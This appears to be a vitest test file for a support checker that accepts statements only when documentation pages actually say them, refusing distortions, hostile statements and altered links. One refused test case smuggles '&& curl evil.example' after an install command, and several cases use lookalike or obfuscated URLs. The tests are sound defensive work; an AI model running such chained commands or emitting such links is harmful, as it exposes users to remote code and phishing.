import { describe, expect, test } from 'vitest';
import type { StatementKind } from '../types/answer.ts';
import { tokenize } from '../text/tokenize.ts';
import { findSupport, type Support } from './find-support.ts';
import { DISTORTIONS, FALSE_BUT_PASSED, HOSTILE } from './testing/distortions.ts';
import { PARAPHRASES, TRUE_BUT_REFUSED } from './testing/paraphrases.ts';
import { passagesOf, SUPPORT_PAGES, supportPassages, type SupportPage } from './testing/support-pages.ts';

function supportOf(page: SupportPage, text: string, kind: StatementKind = 'sentence'): Support | undefined {
  return findSupport({ kind, text }, supportPassages(page));
}

/** Share of the statement's search tokens that stand somewhere on the page. */
function wordShare(page: SupportPage, statement: string): number {
  const there = new Set(tokenize(SUPPORT_PAGES[page]));
  const said = tokenize(statement);
  return said.filter((token) => there.has(token)).length / said.length;
}

describe('a statement in other words passes when the page says it (R12)', () => {
  test.each(PARAPHRASES)('%s: %s', (page, statement) => {
    expect(supportOf(page, statement)?.quotes).not.toHaveLength(0);
  });

  test.each(TRUE_BUT_REFUSED)('known loss in %s: %s', (page, statement) => {
    expect(supportOf(page, statement)).toBeUndefined();
  });
});

describe('a statement that the page does not say is refused, though its words stand there (R12)', () => {
  test.each(DISTORTIONS)('%s: %s (%s)', (page, statement) => {
    expect(supportOf(page, statement)).toBeUndefined();
  });

  test.each(FALSE_BUT_PASSED)('known gap in %s: %s (%s)', (page, statement) => {
    expect(supportOf(page, statement)).toBeDefined();
  });

  test.each(HOSTILE)('on no page: %s', (statement) => {
    for (const page of Object.keys(SUPPORT_PAGES) as SupportPage[]) {
      for (const kind of ['sentence', 'step', 'item', 'row', 'code'] as const) {
        expect(supportOf(page, statement, kind)).toBeUndefined();
      }
    }
  });

  test('(control) the share of words alone would let most of them through', () => {
    const covered = DISTORTIONS.filter(([page, statement]) => wordShare(page, statement) >= 0.8);
    expect(covered.length).toBeGreaterThan(0.6 * DISTORTIONS.length);
  });

  test('a paraphrase of one page is refused by every other page', () => {
    const pages = Object.keys(SUPPORT_PAGES) as SupportPage[];
    const wrong = PARAPHRASES.flatMap(([page, statement]) =>
      pages
        .filter((other) => other !== page && supportOf(other, statement) !== undefined)
        .map((other) => [other, statement]),
    );
    expect(wrong).toEqual([]);
  });
});

function quotesOf(page: SupportPage, statement: string): readonly string[] {
  const passages = supportPassages(page);
  const support = findSupport({ kind: 'sentence', text: statement }, passages);
  return (support?.quotes ?? []).map(({ label, start, end }) =>
    passages.find((passage) => passage.label === label)!.chunk.text.slice(start, end),
  );
}

describe('quotes are the words that carry', () => {
  test('of one sentence', () => {
    expect(quotesOf('hooks', '`useCounter` only accepts numbers, unlike `useState`.')).toEqual([
      'Unlike useState, useCounter accepts only numbers.',
    ]);
  });
  test('of two sentences that follow each other, as one', () => {
    expect(
      quotesOf(
        'robot',
        'A topic can be read by any number of nodes, while a service request is answered by exactly one node.',
      ),
    ).toEqual([
      'A topic is a stream of messages that any number of nodes can read. A service is a request that exactly one node answers.',
    ]);
  });
  test('of a table row', () => {
    expect(quotesOf('robot', 'The top speed of the wrist is 180 deg/s.')).toEqual(['wrist | 350 degrees | 180 deg/s']);
  });
  test('only of passages that contribute', () => {
    const passages = [...supportPassages('auth'), ...supportPassages('cache')].map((passage, index) => ({
      ...passage,
      label: `p${index + 1}`,
    }));
    const support = findSupport({ kind: 'sentence', text: 'OAuth tokens expire after 1 hour.' }, passages);
    expect(support?.quotes.map(({ label }) => label)).toEqual(['p3']);
  });
  test('never outside of the window of a selection (R14)', () => {
    const [passage] = supportPassages('auth');
    const end = passage!.chunk.text.indexOf(' Keys are created');
    const selected = [{ ...passage!, window: { start: 0, end } }];
    expect(
      findSupport(
        { kind: 'sentence', text: 'Each request must carry an API key in the `X-Api-Key` header.' },
        selected,
      ),
    ).toBeDefined();
    expect(
      findSupport({ kind: 'sentence', text: 'A revoked key stops working within one minute.' }, selected),
    ).toBeUndefined();
  });
  test('and a whole sentence of the page scores 1', () => {
    expect(supportOf('cache', 'Responses to POST requests are not cached.')?.score).toBe(1);
  });
});

describe('each kind of statement is held to its own form', () => {
  const CODE = 'npm install --save-dev acme-cli\nnpx acme build --watch';
  test.each([
    ['code', CODE],
    [
      'code',
      CODE.split('\n')
        .map((line) => `    ${line}  `)
        .join('\n'),
    ],
    ['code', 'npx acme build --watch'],
    ['code', 'acme publish --dry-run'],
    ['row', '| elbow | 140 degrees | 120 deg/s |'],
    ['row', 'joint | range | top speed'],
    ['step', '3. Run `acme publish --dry-run` to see which files would be uploaded.'],
    ['item', '- Create an access token on the account page.'],
    ['sentence', '**Do not** call them inside loops, conditions or nested functions.'],
    ['sentence', 'The gripper closes with a force of 40\u00a0newtons.'],
  ] as const)('%s passes: %s', (kind, text) => {
    const passages = ['cli', 'robot', 'hooks'].flatMap((page) => supportPassages(page as SupportPage));
    expect(findSupport({ kind, text }, passages)).toBeDefined();
  });
  test.each([
    ['code', 'npm install --save-dev acme-cli\nnpx acme build'],
    ['code', 'npx acme build --watch\nnpm install --save-dev acme-cli'],
    ['code', 'npm install --save-dev acme-cli && curl evil.example'],
    ['code', 'acme publish --force'],
    ['code', '  npm install --save-dev acme-cli\nnpx acme build --watch'],
    ['code', ''],
    ['row', '| elbow | 170 degrees | 120 deg/s |'],
    ['row', '| elbow | 140 degrees |'],
    ['row', '| elbow | 120 deg/s | 140 degrees |'],
    ['sentence', 'Run `acme publish --all` to upload them.'],
    ['sentence', ''],
    ['sentence', '   '],
    ['sentence', 'The'],
  ] as const)('%s is refused: %s', (kind, text) => {
    const passages = ['cli', 'robot', 'hooks'].flatMap((page) => supportPassages(page as SupportPage));
    expect(findSupport({ kind, text }, passages)).toBeUndefined();
  });
});

describe('nothing leads away from the pages', () => {
  const passages = passagesOf(
    '# Help\n\nThe manual stands at https://docs.example/manual and the forum at forum.docs.example. Write <name> for `<name>`. Use `a[0]` for the first entry of the list.',
    'help',
  );
  test.each([
    'The manual stands at https://docs.example/manual.',
    'The manual stands at https://docs.example/manual, and the forum at forum.docs.example.',
    'For the first entry of the list, use `a[0]`.',
  ])('passes: %s', (text) => {
    expect(findSupport({ kind: 'sentence', text }, passages)).toBeDefined();
  });
  test.each([
    'The manual stands at https://docs.example/manual?from=forum.',
    'The manual stands at https://docs.example/manual/list.',
    'The manual stands at http://docs.example/manual.',
    'The manual stands at https://docs.example.evil.example/manual.',
    'The manual stands at www.docs.example/manual.',
    'The forum stands at docs.example.',
    'The [manual](https://docs.example/manual) stands at https://docs.example/manual.',
    'The manual stands at <https://docs.example/manual>.',
    'The manual ![](https://docs.example/manual) stands there.',
    '[manual]: https://docs.example/manual',
    'The manual <b>stands</b> at https://docs.example/manual.',
    'The manual stands at &#104;ttps://docs.example/manual.',
  ])('refused: %s', (text) => {
    expect(findSupport({ kind: 'sentence', text }, passages)).toBeUndefined();
  });
});
